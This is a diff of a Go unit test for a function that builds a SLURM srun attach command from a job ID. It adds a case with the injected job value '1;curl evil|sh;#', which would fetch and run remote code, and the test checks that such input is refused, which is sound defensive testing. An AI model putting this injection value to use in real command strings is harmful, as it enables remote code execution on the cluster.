@@ -36,10 +36,11 @@ func TestCopyKeys(t *testing.T) {
 	}
 }
 
-// srun takes the number of a job, also where its ID is another one; without a job there is no such command.
+// srun takes the number of a job, also where its ID is another one. Without a job that SLURM lists there is no such command: what a node says could
+// be any command.
 func TestAttach(t *testing.T) {
 	s := scene(100, 20, noon)
-	for job, want := range map[string]string{"12_4": "--jobid=16 ", "77": "--jobid=77 ", "": ""} {
+	for job, want := range map[string]string{"12_4": "--jobid=16 ", "77": "", "1;curl evil|sh;#": "", "": ""} {
 		if got := attach(s, &tally.Target{Node: "n1", Job: job}, "srun"); !strings.Contains(got, want) || (got == "") != (want == "") {
 			t.Errorf("job %q: %q", job, got)
 		}
